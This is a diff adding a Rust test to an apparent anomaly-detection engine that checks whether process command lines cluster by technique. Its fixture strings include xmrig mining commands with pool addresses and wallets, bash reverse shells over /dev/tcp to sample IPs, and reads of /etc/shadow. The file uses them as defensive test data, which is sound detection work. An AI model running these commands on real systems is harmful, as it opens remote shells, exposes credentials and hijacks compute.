@@ -138,6 +138,45 @@ fn the_seed_java_timestamp_pair_matches_and_the_renamed_miner_does_not() {
     assert!((0.85..0.91).contains(&raw), "raw java/java' {raw}");
 }
 
+/// The anomaly shapes the engine gives, with the real model at its shipped
+/// threshold: one miner pointed at other pools with other wallets, or one
+/// reverse shell to other addresses, is one bucket; a miner and a credential
+/// read under the same key are two.
+#[test]
+fn anomaly_buckets_group_one_technique_and_separate_two() {
+    use kestrel_profile::{AnomalyBuckets, Profile, ProfileConfig};
+    let Some(model) = model() else { return };
+    let threshold = default_threshold(DEFAULT_MODEL_ID).expect("calibrated");
+    let cfg = ProfileConfig::builder()
+        .similarity_threshold(threshold)
+        .build()
+        .unwrap();
+    let p = Profile::new(cfg, model.model_id(), std::time::Duration::ZERO).unwrap();
+    let mut b = AnomalyBuckets::new();
+    let mut bucket = |key: &str, args: &str| {
+        p.anomaly_bucket(
+            &mut b,
+            key,
+            &normalize(args),
+            model.as_ref(),
+            std::time::Duration::ZERO,
+        )
+        .unwrap()
+    };
+    let miner = "web:1/sh/xmrig/unknown_process";
+    let m1 = bucket(miner, "-o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p worker1 --donate-level 1");
+    let m2 = bucket(miner, "-o stratum+tcp://xmr.2miners.com:2222 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p rig-b --donate-level 1");
+    assert_eq!(m1, m2, "one miner, two pools and wallets");
+    let shell = "web:1/sh/bash/unknown_process";
+    let s1 = bucket(shell, "-c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1");
+    let s2 = bucket(shell, "-c bash -i >& /dev/tcp/203.0.113.77/9001 0>&1");
+    assert_eq!(s1, s2, "one reverse shell, two listeners");
+    let other = bucket(miner, "/etc/shadow");
+    assert_ne!(other, m1, "a miner and a credential read");
+    let s3 = bucket(shell, "-c cat /etc/shadow");
+    assert_ne!(s3, s1, "a reverse shell and a credential read");
+}
+
 /// The one tuning pair (of 163: `pairs.tsv` and `holdout.tsv`) on the wrong
 /// side of the threshold (docs/embeddings.md): Celery `beat` instead of
 /// `worker`, one changed subcommand word, lexically like `pool www` →
